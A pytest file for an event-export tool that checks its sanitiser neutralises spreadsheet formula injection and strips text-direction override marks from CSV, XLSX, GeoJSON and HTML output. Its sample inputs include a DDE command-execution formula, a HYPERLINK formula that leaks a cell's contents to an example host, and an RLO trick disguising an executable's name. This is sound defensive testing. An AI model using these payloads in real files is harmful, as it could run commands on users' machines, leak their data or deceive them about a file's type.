"""Cells that a spreadsheet would run as formulas are made harmless (OWASP, CSV injection); no other is changed."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from evtx.export.cells import harmless

RUNS = [
    "=1+1",
    "+963 11 000",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "−1",
    '=HYPERLINK("http://example.org?x="&A1;"click")',
    "=cmd|' /C calc'!A0",
    "- قال المصدر",
]
SAFE = ["", "قُتل 3 - 5 أشخاص", "a=b", "3+4", "info@example.org", "٣=٢", "'=1+1", "«=»"]


@pytest.mark.parametrize("text", RUNS)
def test_a_formula_gets_an_apostrophe_before_it(text):
    made = harmless(text)
    assert made.startswith("'")
    assert made[1:].split() == text.replace("\t", " ").split()


@pytest.mark.parametrize("text", SAFE)
def test_other_texts_stay(text):
    assert harmless(text) == text


@pytest.mark.parametrize("value", [0, -5, -36.5, 1.0, None])
def test_numbers_and_nothing_stay(value):
    assert harmless(value) is value


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x; =1+1", "x;' =1+1"),
        ("x;\u200f=1+1", "x;'\u200f=1+1"),
        ("x|=1+1", "x|'=1+1"),
        ("x\t=1+1", "x =1+1"),
    ],
)
def test_a_cell_that_another_separator_would_open(text, made):
    """A spreadsheet set to semicolons starts a cell within the text; no tab is left to start one."""
    assert harmless(text) == made


def test_a_text_is_on_one_line():
    assert harmless("a\r\nb\tc\x00d\x9be") == "a b c d e"


def test_in_the_file(written, event):
    spoilt = event("raid", notes_en="=1+1")
    spoilt = replace(spoilt, article=replace(spoilt.article, title="\t+cmd", outlet="@x"))
    path, _ = written("csv", spoilt)
    with path.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["notes_en"], row["title"], row["outlets"]) == ("'=1+1", "' +cmd", "'@x")


def test_in_the_workbook(written, event):
    openpyxl = pytest.importorskip("openpyxl")
    path, _ = written("xlsx", event("raid", notes_en="=1+1"))
    sheet = openpyxl.load_workbook(path)["events"]
    column = [c.value for c in sheet[1]].index("notes_en")
    assert (sheet[2][column].value, sheet[2][column].data_type) == ("'=1+1", "s")


def test_marks_that_turn_a_text_round_reach_no_export(written, event):
    one = event("shelling")
    told = replace(one, article=replace(one.article, title="قصف \u202egnp.exe\u2069 \\u202e", outlet="\u2067x"))
    for form in ("csv", "geojson", "html"):
        text = written(form, told)[0].read_text(encoding="utf-8")
        data = text.split('id="events">')[1].split("</script>")[0] if form == "html" else text
        assert not set(data) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
        assert "قصف \ufffdgnp.exe\ufffd " in data
        assert "u202e" in data, "what only looks like a mark stays"
